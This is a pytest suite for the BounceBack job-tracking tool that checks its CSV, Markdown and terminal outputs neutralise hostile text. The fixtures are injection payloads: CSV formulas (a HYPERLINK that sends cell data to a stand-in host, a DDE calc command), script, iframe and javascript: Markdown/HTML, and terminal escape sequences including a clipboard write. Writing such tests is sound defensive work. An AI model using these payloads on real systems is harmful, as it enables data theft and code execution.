"""Hostile text in the exports (issue 12, part 4): a spreadsheet must not run a CSV cell as a
formula, the Markdown journal must not turn a note into an image, a tag or a heading, and
nothing the person or a file wrote may drive the terminal an export or an import prints to.
Files keep the person's text exactly; BounceBack's own CSV imports back byte for byte.

Every test runs the installed `bounceback` as a real process on real SQLite files."""

from __future__ import annotations

import csv
import html
import io
import os
import re
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from reliability_support import bounceback_exe as exe
from reliability_support import sql_dump as dump

from bounceback_tui.store import Store
from bounceback_tui.store.interchange import (
    CSV_COLUMNS,
    CSV_TEXT_COLUMNS,
    FORMULA_TRIGGERS,
    formula_guard,
    formula_unguard,
)

TEXT_FIELDS = ("company", "role", "source", "location", "url", "notes")
assert CSV_TEXT_COLUMNS == TEXT_FIELDS


def environment(home: Path) -> dict[str, str]:
    """A private home for a real `bounceback` process (the machine's time zone is kept)."""
    env = {k: v for k, v in os.environ.items() if k != "BOUNCEBACK_DB"}
    env.update(HOME=str(home), XDG_DATA_HOME=str(home / "data"),
               XDG_CONFIG_HOME=str(home / "config"), XDG_STATE_HOME=str(home / "state"),
               COLUMNS="120", PYTHONDONTWRITEBYTECODE="1", LANG="C.UTF-8")
    return env


@pytest.fixture
def run(tmp_path: Path):
    """`run(*args, db=PATH)`: the installed command, piped; returns the CompletedProcess
    (bytes)."""
    home = tmp_path / "home"
    home.mkdir()
    env = environment(home)

    def go(*args: str, db: Path) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([exe(), "--db", str(db), *args], capture_output=True, env=env,
                              stdin=subprocess.DEVNULL, cwd=tmp_path, timeout=120,
                              check=False)

    return go


def ok(result: subprocess.CompletedProcess[bytes]) -> bytes:
    assert (result.returncode, result.stderr) == (0, b""), result
    return result.stdout


# --- CSV: formulas ---------------------------------------------------------------------------

TRIGGER_VALUES = [
    *(f"{trigger}HYPERLINK(\"http://evil.test/?\"&A1,\"x\")" for trigger in "=+-@"),
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # spaces before a trigger: some readers trim them
    "-5 degrees, no formula meant",
    "@channel",
    "'quoted already",
    "''two quotes",
    "'=half guarded",
    "'",
]
"""Each trigger OWASP names (= + - @ tab CR, and LF), the guard itself, and mixtures."""
ORDINARY_VALUES = ["Acme", "it's fine", "a=b", "x+y", "Zürich", "求职信", "5 - 3"]
"""Text that needs no guard (a quote or trigger not at the start)."""


def test_the_guard_is_undone_exactly() -> None:
    """formula_unguard(formula_guard(x)) == x for every value, and a guarded cell never
    starts with a trigger, even after leading spaces."""
    for value in [*TRIGGER_VALUES, *ORDINARY_VALUES, "", " ", "''", "'''x", "'x", "'\t",
                  "\t", "\r", "=", "'='"]:
        guarded = formula_guard(value)
        assert formula_unguard(guarded) == value, value
        assert not guarded.startswith(FORMULA_TRIGGERS), value
        assert not guarded.lstrip().startswith(FORMULA_TRIGGERS), value
    assert formula_unguard("'x") == "'x"  # an export from before the guard keeps its quote


def test_csv_export_guards_formulas_and_its_import_gives_the_text_back(run, tmp_path):
    """Setup: one application per value (every formula trigger, the guard `'` itself and
    ordinary text), the value in all six text fields. Action: the installed
    `export --format csv`, then `import` of that file into an empty database.
    Holds: no text cell starts with a trigger (nor after spaces); a cell that needed the
    guard is the value with one `'` before it, any other is the value as is; the import
    gives every field back byte for byte."""
    db, fresh = tmp_path / "hunt.db", tmp_path / "fresh.db"
    values = [*TRIGGER_VALUES, *ORDINARY_VALUES]
    with Store.open(db) as store:
        for value in values:
            store.add_application(value, value, source=value, location=value, url=value,
                                  notes=value)
    exported = ok(run("export", "--format", "csv", db=db)).decode("utf-8")
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == 1 + len(values)
    for row in rows[1:]:
        cells = dict(zip(CSV_COLUMNS, row, strict=True))
        value = formula_unguard(cells["company"])
        assert value in values
        for name in TEXT_FIELDS:
            cell = cells[name]
            assert not cell.startswith(FORMULA_TRIGGERS), (name, cell)
            assert not cell.lstrip().startswith(FORMULA_TRIGGERS), (name, cell)
            needs_guard = value.startswith("'") or value.lstrip().startswith(FORMULA_TRIGGERS)
            assert cell == ("'" + value if needs_guard else value), (name, cell)
    path = tmp_path / "own.csv"
    path.write_bytes(exported.encode("utf-8"))
    ok(run("import", str(path), db=fresh))
    with Store.open(fresh) as store:
        back = sorted(tuple(getattr(a, f) for f in TEXT_FIELDS)
                       for a in store.list_applications())
    assert back == sorted(tuple([value] * len(TEXT_FIELDS)) for value in values)


def test_a_foreign_csv_is_read_as_before(run, tmp_path):
    """Setup: a spreadsheet's CSV (not BounceBack's header) whose cells start with `'`, a
    trigger, or spaces. Action: `import`. Holds: cells are trimmed as always and a leading
    `'` is kept: the guard is only taken off BounceBack's own export."""
    path = tmp_path / "sheet.csv"
    path.write_text("Company,Title,Notes\n'=Acme,'Dev,  '=x  \n=Globex,-PM,\"a\r\nb\"\n",
                    encoding="utf-8", newline="")
    db = tmp_path / "hunt.db"
    ok(run("import", str(path), db=db))
    with Store.open(db) as store:
        got = sorted((a.company, a.role, a.notes) for a in store.list_applications())
    assert got == [("'=Acme", "'Dev", "'=x"), ("=Globex", "-PM", "a\nb")]


# --- Markdown: the journal --------------------------------------------------------------------

MARKDOWN_HOSTILE = [
    "![x](http://evil.test/p.png)",
    "<script>alert(1)</script>",
    "<iframe src=http://evil.test></iframe>",
    "<img src=x onerror=alert(1)>",
    "# Hacked",
    "## Hacked too",
    "- a list item",
    "+ another",
    "1. numbered",
    "2) numbered",
    "***",
    "---",
    "===",
    "> quoted",
    "[link](javascript:alert(1))",
    "[ref]: http://evil.test/ref",
    "<http://evil.test/auto>",
    "&lt;script&gt; &amp; &#60;",
    "`code` and ```fence",
    "~~~ tilde fence",
    "| a | b |",
    "**bold** _em_ ~~gone~~",
    "back\\slash\\",
    "x\\[y]100%_off",
]
"""Markdown and HTML that must show as written, never act."""
MULTILINE = "first line\n# Hacked\n![x](http://evil.test/p.png)\n<script>x</script>\n---\n- item"


def _journal_db(path: Path) -> dict[str, Any]:
    """One application per hostile string, the string in every text field, in each event's
    note, in every reflection answer and list, in a win and in an action; one application
    whose notes and answers span lines. Returns what the headings and lists must hold."""
    now = datetime.now(UTC).replace(microsecond=0)
    with Store.open(path) as store:
        for index, text in enumerate(MARKDOWN_HOSTILE):
            app = store.add_application(text, text, source=text, location=text, url=text,
                                        notes=text, note=text,
                                        applied_at=now - timedelta(days=30, minutes=index))
            store.move(app.id, "rejected", at=now - timedelta(days=20), note=text)
            store.save_reflection(
                {"feelings": [text, "sad"], "reasons": [text], "mismatches": [text],
                 "reasons_text": text, "feedback_text": text, "went_well": text,
                 "do_differently": text, "taught_me": text, "alignment_text": text,
                 "direction_text": text, "commitment_text": text, "next_step": text,
                 "mood_before": 2},
                application_id=app.id, status="saved")
            store.add_win(text, at=now - timedelta(days=10))
            store.add_action(text)
        multi = store.add_application("Multi", "Line", notes=MULTILINE,
                                      applied_at=now - timedelta(days=40))
        store.save_reflection({"went_well": MULTILINE, "taught_me": MULTILINE},
                              application_id=multi.id)
        store.save_reflection({"next_step": MULTILINE})  # a free-standing draft
    return {"applications": len(MARKDOWN_HOSTILE) + 1,
            "reflections": len(MARKDOWN_HOSTILE) + 2}


def _tokens(tokens: list[Any]) -> list[Any]:
    """Every token, inline children included."""
    out = []
    for token in tokens:
        out.append(token)
        out.extend(_tokens(token.children or []))
    return out


def test_the_markdown_journal_shows_user_text_and_never_runs_it(run, tmp_path):
    """Setup: every Markdown/HTML attack (remote image, script, iframe, fake heading, list
    and rule starts, links, entities, code fences, tables) in every place the journal
    shows user text; notes and answers that span lines. Action: the installed
    `export --format markdown`, rendered by a CommonMark parser (markdown-it, tables and
    strikethrough on). Holds: no image, link, HTML, rule or code token; the only headings
    are the journal's own (one per application and reflection); every list item starts as
    the journal writes it; and the rendered text still shows each string as typed."""
    from markdown_it import MarkdownIt

    db = tmp_path / "hunt.db"
    counts = _journal_db(db)
    text = ok(run("export", "--format", "markdown", db=db)).decode("utf-8")
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    tokens = _tokens(parser.parse(text))
    kinds = {t.type for t in tokens}
    forbidden = {"image", "link_open", "html_block", "html_inline", "hr", "code_inline",
                 "code_block", "fence", "table_open", "s_open", "em_open"}
    assert not kinds & forbidden, kinds & forbidden
    headings = [(t.tag, tokens[i + 1].content) for i, t in enumerate(tokens)
                if t.type == "heading_open"]
    assert [h for h in headings if h[0] in ("h1", "h2")] == [
        ("h1", "BounceBack journal"), ("h2", "Applications"), ("h2", "Other reflections"),
        ("h2", "Wins"), ("h2", "Growth actions")]
    assert len([h for h in headings if h[0] == "h3"]) == counts["applications"]
    assert len([h for h in headings if h[0] == "h4"]) == counts["reflections"]
    assert not [h for h in headings if h[0] in ("h5", "h6")]
    rendered = parser.render(text)
    for forbidden_tag in ("<img", "<script", "<iframe", "<a ", "<hr", "<code", "<pre",
                          "<table", "<h5", "<h6", "<em>", "<del>", "<s>"):
        assert forbidden_tag not in rendered, forbidden_tag
    for item in re.findall(r"<li>(.*?)</li>", rendered, flags=re.DOTALL):
        assert re.match(r"(Stage|Source|Location|Link): |\d{4}-\d\d-\d\d \d\d:\d\d |"
                        r"\[[ x]\] |<strong>[^<]+:</strong> ", item), item
    # The person's characters, as a reader of the rendered page sees them.
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    for hostile in MARKDOWN_HOSTILE:
        assert f"{hostile} — {hostile}" in shown, hostile  # the application's heading
        assert shown.count(hostile) >= 15, hostile  # fields, notes, answers, win, action
    for line in MULTILINE.splitlines():
        assert shown.count(line) >= 4, line  # notes, two answers, the free draft


# --- terminals: nothing from the user or a file drives them ----------------------------------

C0_AND_DEL = "".join(chr(c) for c in range(1, 32)) + "\x7f"
TERMINAL_HOSTILE = [
    "\x1b]0;title\x07",  # set the window title
    "\x1b[2J\x1b[H",  # clear the screen
    "\x1b]52;c;aGk=\x07",  # write the clipboard
    "\x9b31mred",  # 8-bit CSI
    "ding\x07dong",  # BEL
    f"every C0 {C0_AND_DEL} end",  # NUL aside (it cannot travel in argv)
    "c1 " + "".join(chr(c) for c in range(0x80, 0xA0)),
    "bidi \u202eevil\u202c \u2066iso\u2069",
    "![x](http://evil.test/p.png) <script>",
]
TERMINAL_RAW = re.compile("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f"
                          "\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""What must never reach a terminal: every C0 control but line feed and carriage return (a
pty turns each line feed into CR LF), DEL, C1, bidi controls. Tabs are refused too: they
cannot take the terminal over, but they can push text out of sight or fake columns, and
`display.visible` already shows them as ␉."""


def _terminal_db(path: Path) -> None:
    """Every hostile string in every field of an application (rejected, with a note on each
    event), in a saved reflection, a win and an action; then an offer, so that
    `export --story` tells the hostile no's and their lessons."""
    now = datetime.now(UTC).replace(microsecond=0)
    with Store.open(path) as store:
        for index, text in enumerate(TERMINAL_HOSTILE):
            app = store.add_application(text, text, source=text, location=text, url=text,
                                        notes=f"{text}\n{text}", note=text,
                                        applied_at=now - timedelta(days=30, minutes=index))
            store.move(app.id, "rejected", at=now - timedelta(days=20, minutes=index),
                       note=text)
            store.save_reflection(
                {"feelings": [text], "reasons": [text], "reasons_text": text,
                 "do_differently": f"{text}\n{text}", "taught_me": text, "next_step": text,
                 "commitment_text": text}, application_id=app.id, status="saved")
            store.add_win(text, at=now - timedelta(days=10))
            store.add_action(text)
        offer = store.add_application("Offer \x1b]0;yes\x07 Co", "Dev",
                                      applied_at=now - timedelta(days=9))
        store.move(offer.id, "offer", at=now - timedelta(days=1))


def _on_a_terminal(args: list[str], env: dict[str, str], cwd: Path) -> tuple[int, bytes]:
    """Runs the installed command with stdin, stdout and stderr on a new pseudo-terminal;
    its exit status and every byte it wrote to the terminal."""
    import fcntl
    import pty
    import select
    import struct
    import termios

    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 120, 0, 0))
    try:
        process = subprocess.Popen([exe(), *args], stdin=slave, stdout=slave, stderr=slave,
                                   env=env, cwd=cwd, start_new_session=True)
    finally:
        os.close(slave)
    chunks = []
    try:
        while True:
            ready, _, _ = select.select([master], [], [], 120)
            if not ready:  # a guard against a hung child, not a timing assertion
                process.kill()
                raise AssertionError(f"no output for 120 s from {args}")
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: every copy of the terminal's other end is closed
                break
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        os.close(master)
    return process.wait(timeout=120), b"".join(chunks)


def _assert_harmless(output: bytes, what: str) -> str:
    text = output.decode("utf-8")  # strict: a stray 8-bit byte would fail here
    found = TERMINAL_RAW.search(text)
    assert found is None, (what, found and repr(text[max(0, found.start() - 40):
                                                     found.end() + 40]))
    return text


@pytest.mark.slow
def test_nothing_user_or_file_provided_reaches_a_terminal_raw(tmp_path):
    """Setup: a database holding every escape sequence, C0 control (NUL aside), DEL, C1
    control and bidi override in every field; a CSV whose column names and status words
    carry them; a CSV with no Company column whose header names carry them; a JSON file
    holding one where an instant should be; output paths named with them.
    Action: on a real pseudo-terminal, the installed `bounceback`: every export (json, csv,
    markdown, --story), `list`, `list --json`, `show`, `stats`, `stats --json`, the imports
    (notes and refusals), an export and a backup to the hostile paths, and an import of a
    missing file with such a name. Holds: not one control character but CR/LF reaches the
    terminal; the hostile text is shown as symbols (␛, ␇, <U+009B>, <U+202E>); the same
    exports piped, and the file written with --output, keep the text exactly."""
    db = tmp_path / "hunt.db"
    _terminal_db(db)
    home = tmp_path / "home"
    home.mkdir()
    env = environment(home)
    evil = "\x1b]0;title\x07\x1b[2J\x9b31m\u202e\x7f"
    header = ["Company", "Role", "Status", f"Salary{evil}", "\x1b[31mRed\tX", "\u202eevil"]
    good_csv = tmp_path / "jobs.csv"
    good_csv.write_text(",".join(header) + "\n" + "Acme,Dev,Rejected\x07,1,2,3\n",
                        encoding="utf-8")
    bad_csv = tmp_path / "bad.csv"
    bad_csv.write_text(f"Name{evil},Role\nAcme,Dev\n", encoding="utf-8")
    bad_json = tmp_path / "bad.json"
    bad_json.write_text('{"format": "bounceback", "version": 1, "applications": [{"company":'
                        ' "A", "events": [{"stage": "applied", "at": "\\u001b[2J\\u0007"}]}]}',
                        encoding="utf-8")
    out_md = tmp_path / f"journal{evil}.md"
    commands = [
        ["export"], ["export", "--format", "csv"], ["export", "--format", "markdown"],
        ["export", "--story"], ["list"], ["list", "--json"], ["show", "1"], ["stats"],
        ["stats", "--json"], ["import", str(good_csv), "--dry-run"],
        ["import", str(bad_csv)], ["import", str(bad_json)],
        ["import", str(tmp_path / f"missing{evil}.csv")],
        ["import", os.fsdecode(bytes(tmp_path) + b"/not-utf8-\xff.csv")],
        ["export", "--format", "markdown", "-o", str(out_md)],
        ["backup", str(tmp_path / f"copy{evil}.db")],
    ]
    before = dump(db)
    seen = {}
    for args in commands:
        status, output = _on_a_terminal(["--db", str(db), *args], env, tmp_path)
        seen[" ".join(args)] = shown = _assert_harmless(output, args)
        refused = args[0] == "import" and "--dry-run" not in args
        assert status == (1 if refused else 0), (args, shown)
        if refused:
            assert len(shown.splitlines()) == 1 and shown.startswith("bounceback: "), shown
    assert dump(db) == before
    for name in ("export", "export --format csv", "export --format markdown", "export --story",
                 "list", "list --json", "show 1", "stats", "stats --json"):
        assert "␛" in seen[name] or "\\u001b" in seen[name], name  # shown, as symbols
    assert "␛]0;title␇ — ␛]0;title␇" in seen["show 1"]
    for name in ("export --format csv", "export --format markdown", "export --story"):
        escaped = "\\" if "markdown" in name or "story" in name else ""  # Markdown's `\[`
        for symbol in (f"␛{escaped}]0;title␇", f"␛{escaped}[2J", "<U+009B>31m",
                       "<U+202E>evil", "␡"):
            assert symbol in seen[name], (name, symbol)
    symbols = visible_form(evil)
    dry_run = seen[f"import {good_csv} --dry-run"]
    for kept in ("Salary␛]0;title␇", "␛[31mRed␉X", "<U+202E>evil"):  # the columns' table
        assert any(line.startswith(f"  {kept}") and "→ kept in notes" in line
                   for line in dry_run.splitlines()), (kept, dry_run)
    assert "'Rejected␇' → rejected (1 row)" in dry_run and "Would import 1 applications" in dry_run
    assert f"no Company column (found: Name{symbols}, Role)" in seen[f"import {bad_csv}"]
    assert "applications[0].events[0].at: " in seen[f"import {bad_json}"]
    missing = str(tmp_path / f"missing{evil}.csv")
    assert f"{visible_form(missing)}: no such file" in seen[f"import {missing}"]
    not_utf8 = os.fsdecode(bytes(tmp_path) + b"/not-utf8-\xff.csv")  # a lone surrogate
    assert "/not-utf8-<U+DCFF>.csv: no such file" in seen[f"import {not_utf8}"]
    assert f"Exported to {visible_form(str(out_md))}" in seen[
        f"export --format markdown -o {out_md}"]
    copy = tmp_path / f"copy{evil}.db"
    assert visible_form(str(copy)) in seen[f"backup {copy}"]
    # Files and pipes keep the text exactly.
    piped = ok(subprocess.run([exe(), "--db", str(db), "export", "--format", "markdown"],
                              capture_output=True, env=env, stdin=subprocess.DEVNULL,
                              timeout=120, check=False))
    assert b"\x1b\\]0;title\x07" in piped and "\u202e".encode() in piped

    def without_time(data: bytes) -> bytes:
        return re.sub(rb"\nExported [^\n]*\n", b"\n", data)

    assert without_time(out_md.read_bytes()) == without_time(piped)
    backed_up = subprocess.run([exe(), "--db", str(db), "backup", str(tmp_path / "plain.db")],
                               capture_output=True, env=env, stdin=subprocess.DEVNULL,
                               timeout=120, check=False)
    assert ok(backed_up) == f"{tmp_path / 'plain.db'}\n".encode()  # piped: exact, for scripts
    assert copy.exists()


def visible_form(text: str) -> str:
    from bounceback_tui.domain.user_text import visible

    return visible(text)
